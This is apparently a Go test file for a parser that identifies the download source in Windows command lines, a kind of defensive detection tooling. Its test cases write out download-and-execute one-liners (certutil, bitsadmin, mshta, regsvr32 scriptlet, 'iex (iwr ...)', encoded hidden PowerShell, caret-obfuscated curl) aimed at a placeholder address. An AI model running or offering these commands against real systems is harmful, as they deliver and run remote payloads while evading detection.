package command

import (
	"slices"
	"strings"
	"testing"
)

// What a program takes as its source is where a file comes from. A proxy, a referrer,
// an output and a comment are not.
func TestSources(t *testing.T) {
	const a = "http://192.0.2.1/a.exe"
	for _, tt := range []struct{ line, want string }{
		{`certutil -urlcache -f http://192.0.2.1/a.exe C:\a.exe`, a},
		{`certutil.exe /verifyctl /f http://192.0.2.1/a.exe`, a},
		{`certutil -hashfile C:\a.exe http://192.0.2.1/`, ""},
		{`"C:\Windows\System32\curl.exe" -x http://proxy.example:3128 -o C:\a.exe 192.0.2.1/a.bin`, "192.0.2.1/a.bin"},
		{`curl -e http://decoy.example/ --url http://192.0.2.1/a.exe -o a`, a},
		{`curl -sSL -O http://192.0.2.1/a.exe`, a},
		{`curl "http://192.0.2.1/a?x=1&y=2" -o a`, "http://192.0.2.1/a?x=1&y=2"},
		{`curl --proxy=http://proxy.example http://192.0.2.1/a.exe`, a},
		{`wget.exe -O C:\a.exe http://192.0.2.1/a.exe`, a},
		{`wget --output-document=C:\a.exe http://192.0.2.1/a.exe`, a},
		{`bitsadmin /transfer job /download /priority high http://192.0.2.1/a.exe C:\a.exe`, a},
		{`curl -T C:\a.exe http://192.0.2.1/in`, ""},
		{`bitsadmin /transfer job /upload http://192.0.2.1/in C:\a.exe`, ""},
		{`bitsadmin /info http://192.0.2.1/a.exe`, ""},
		{`msiexec /q /i http://192.0.2.1/a.msi`, "http://192.0.2.1/a.msi"},
		{`regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll`, "http://192.0.2.1/a.sct"},
		{`mshta http://192.0.2.1/a.hta`, "http://192.0.2.1/a.hta"},
		{`MpCmdRun.exe -DownloadFile -url http://192.0.2.1/a.exe -path C:\a.exe`, a},
		{`desktopimgdownldr.exe /lockscreenurl:http://192.0.2.1/a.exe /eventName:x`, a},
		{`cmd.exe /c copy \\10.9.9.9\s\x.exe C:\a.exe & rem https://www.example.com/download`, `\\10.9.9.9\s\x.exe`},
		{`cmd /c "copy /y "C:\Users\alice\My Downloads\setup.exe" C:\a.exe"`, `C:\Users\alice\My Downloads\setup.exe`},
		{`cmd /c cd C:\d & copy x.exe C:\a.exe`, `C:\d\x.exe`},
		{`cmd /c type \\h\s\x.exe > C:\a.exe`, `\\h\s\x.exe`},
		{`xcopy /y \\h\s\x.exe C:\d`, `\\h\s\x.exe`},
		{`esentutl.exe /y C:\x.exe /d C:\a.exe /o`, `C:\x.exe`},
		{`expand C:\x.cab -F:* C:\d`, `C:\x.cab`},
		{`tar -xf C:\x.zip -C C:\d`, `C:\x.zip`},
		{`7z x -y C:\x.zip`, `C:\x.zip`},
		{`powershell -nop -c "(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a.exe','C:\a.exe')"`, a},
		{`powershell -nop -c "iex (iwr -UseBasicParsing http://192.0.2.1/a.exe)"`, a},
		{`powershell -c "$x = Invoke-RestMethod -Proxy http://p.example -Uri 'http://192.0.2.1/a.exe'"`, a},
		{`powershell.exe -nop -w hidden -enc ` + encoded(`iwr -Uri http://192.0.2.1/a.exe -OutFile C:\a.exe`), a},
		{`powershell iwr $u -OutFile C:\a.exe -Headers http://x.example/`, ""},
		{`powershell Start-BitsTransfer -Source http://192.0.2.1/a.exe -Destination C:\a.exe`, a},
		{`powershell cp \\h\s\x.exe C:\a.exe`, `\\h\s\x.exe`},
		{`notepad http://192.0.2.1/a.exe`, ""},
		{`cmd /c c^url http://192.0.2.1/a.exe -o a`, a},
		{"", ""},
	} {
		uses, _ := Read(tt.line)
		if got := strings.Join(Sources(uses), " | "); got != tt.want {
			t.Errorf("%s:\ngot  %s\nwant %s", tt.line, got, tt.want)
		}
	}
}

// Every form takes something.
func TestFetchForms(t *testing.T) {
	for _, table := range []map[string]fetchForm{fetchForms, cmdletForms} {
		for name, f := range table {
			r := reader{}
			list := []string{"http://192.0.2.1/a"}
			switch {
			case f.operands == "mtm" || f.operands == "mtw":
				list = []string{"x", "http://192.0.2.1/a"}
			case f.takes != "":
				option := strings.Fields(f.takes)[0]
				if list = []string{option, list[0]}; strings.HasSuffix(option, ":") {
					list = []string{option + list[1]}
				}
			case f.needs != "":
				list = []string{"-" + strings.Fields(f.needs)[0], list[0]}
			}
			if r.fetch(f, list, false); !slices.ContainsFunc(r.uses, func(u Use) bool { return u.Verb == Takes && u.Paths[0] == "http://192.0.2.1/a" }) {
				t.Errorf("%s %q: %v", name, list, r.uses)
			}
		}
	}
}
